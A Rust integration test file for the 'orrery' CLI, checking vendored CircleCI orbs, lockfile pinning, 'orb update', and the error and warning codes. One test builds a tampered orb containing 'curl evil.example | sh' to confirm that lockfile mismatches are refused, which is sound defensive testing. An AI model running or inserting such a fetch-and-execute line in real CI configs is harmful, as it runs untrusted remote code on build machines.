//! The orb store from the command line: vendored orbs, the lockfile, `orb source` and `orb list`.

mod common;

use std::fs;
use std::path::{Path, PathBuf};

use common::{orrery, text};

const CONFIG: &str = "version: 2.1
orbs:
  tools: acme/tools@1
workflows:
  main:
    jobs:
      - tools/hello
";

fn tools_orb(greeting: &str) -> String {
    format!(
        "version: 2.1
jobs:
  hello:
    docker:
      - image: cimg/base:stable
    steps:
      - run: echo {greeting}
"
    )
}

/// A project with `.circleci/config.yml` and vendored orbs in `.circleci/orbs/`.
fn project() -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let circleci = dir.path().join(".circleci");
    fs::create_dir_all(&circleci).unwrap();
    fs::write(circleci.join("config.yml"), CONFIG).unwrap();
    vendor(&circleci, "1.1.0", &tools_orb("one-one"));
    let config = circleci.join("config.yml");
    (dir, config)
}

fn vendor(circleci: &Path, version: &str, text: &str) {
    let dir = circleci.join("orbs/acme/tools");
    fs::create_dir_all(&dir).unwrap();
    fs::write(dir.join(format!("{version}.yml")), text).unwrap();
}

fn process(config: &Path) -> std::process::Output {
    orrery(&[
        "config",
        "process",
        config.to_str().unwrap(),
        "--no-trailer",
    ])
}

#[test]
fn vendored_orbs_resolve_without_flags() {
    let (_dir, config) = project();
    let out = process(&config);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let stdout = text(&out.stdout);
    assert!(stdout.contains("acme/tools@1.1.0"), "{stdout}");
    assert!(stdout.contains("echo one-one"), "{stdout}");
}

#[test]
fn a_locked_floating_reference_stays_pinned_until_update() {
    let (_dir, config) = project();
    let circleci = config.parent().unwrap();
    let out = orrery(&["orb", "lock", config.to_str().unwrap()]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let lock = fs::read_to_string(circleci.join("orbs.lock")).unwrap();
    assert!(
        lock.contains("acme/tools@1:\n    version: 1.1.0\n    sha256: "),
        "{lock}"
    );

    vendor(circleci, "1.2.0", &tools_orb("one-two"));
    let pinned = text(&process(&config).stdout);
    assert!(pinned.contains("echo one-one"), "{pinned}");

    let out = orrery(&["orb", "update", config.to_str().unwrap()]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(
        text(&out.stdout).contains("acme/tools@1 1.1.0 -> 1.2.0"),
        "{}",
        text(&out.stdout)
    );
    let moved = text(&process(&config).stdout);
    assert!(moved.contains("echo one-two"), "{moved}");
}

#[test]
fn a_tampered_orb_source_is_refused() {
    let (_dir, config) = project();
    let circleci = config.parent().unwrap();
    assert!(orrery(&["orb", "lock", config.to_str().unwrap()])
        .status
        .success());
    vendor(circleci, "1.1.0", &tools_orb("curl evil.example | sh"));
    let out = process(&config);
    assert_eq!(out.status.code(), Some(1));
    assert!(out.stdout.is_empty(), "no partial output");
    let stderr = text(&out.stderr);
    assert!(stderr.contains("E0504"), "{stderr}");
    assert!(stderr.contains("acme/tools@1.1.0"), "{stderr}");
    assert!(stderr.contains("does not match orbs.lock"), "{stderr}");
}

/// E0504's help names the command that exists, and doing what it says re-pins the source.
#[test]
fn the_lock_mismatch_help_names_orb_update_and_it_works() {
    let (_dir, config) = project();
    let circleci = config.parent().unwrap();
    assert!(orrery(&["orb", "lock", config.to_str().unwrap()])
        .status
        .success());
    vendor(circleci, "1.1.0", &tools_orb("changed-on-purpose"));
    let stderr = text(&process(&config).stderr);
    assert!(
        stderr.contains(
            "= help: the orb changed since it was locked; restore the locked source, or run \
             `orrery orb update` to pin the new source if the change is intended"
        ),
        "{stderr}"
    );
    assert!(!stderr.contains("--update"), "{stderr}");

    let update = orrery(&["orb", "update", config.to_str().unwrap()]);
    assert!(update.status.success(), "{}", text(&update.stderr));
    let out = process(&config);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(text(&out.stdout).contains("echo changed-on-purpose"));
}

#[test]
fn an_unlocked_reference_is_a_warning() {
    let (_dir, config) = project();
    let circleci = config.parent().unwrap();
    assert!(orrery(&["orb", "lock", config.to_str().unwrap()])
        .status
        .success());
    fs::write(
        &config,
        CONFIG.replace("tools: acme/tools@1", "tools: acme/tools@1.1.0"),
    )
    .unwrap();
    let out = process(&config);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let stderr = text(&out.stderr);
    assert!(stderr.contains("W0506"), "{stderr}");
    assert!(
        stderr.contains("config.yml:3:"),
        "located at the reference: {stderr}"
    );
    let _ = circleci;
}

#[test]
fn a_malformed_lockfile_is_located() {
    let (_dir, config) = project();
    let circleci = config.parent().unwrap();
    fs::write(
        circleci.join("orbs.lock"),
        "lockfile-version: 1\norbs:\n  acme/tools@1:\n    version: 1.1.0\n",
    )
    .unwrap();
    let out = process(&config);
    assert_eq!(out.status.code(), Some(1));
    let stderr = text(&out.stderr);
    assert!(stderr.contains("E0505"), "{stderr}");
    assert!(stderr.contains("orbs.lock:4:"), "{stderr}");
}

#[test]
fn source_and_list_show_the_store() {
    let (_dir, config) = project();
    let out = orrery(&[
        "orb",
        "source",
        "acme/tools@1",
        "--config",
        config.to_str().unwrap(),
    ]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert_eq!(text(&out.stdout), tools_orb("one-one"));
    assert!(text(&out.stderr).contains("resolved to 1.1.0"));

    let out = orrery(&["orb", "list", "--config", config.to_str().unwrap()]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(
        text(&out.stdout).contains("acme/tools  vendored  1.1.0"),
        "{}",
        text(&out.stdout)
    );

    let out = orrery(&[
        "orb",
        "source",
        "acme/missing@1",
        "--config",
        config.to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(1));
    assert!(text(&out.stderr).contains("E0501"), "{}", text(&out.stderr));
}
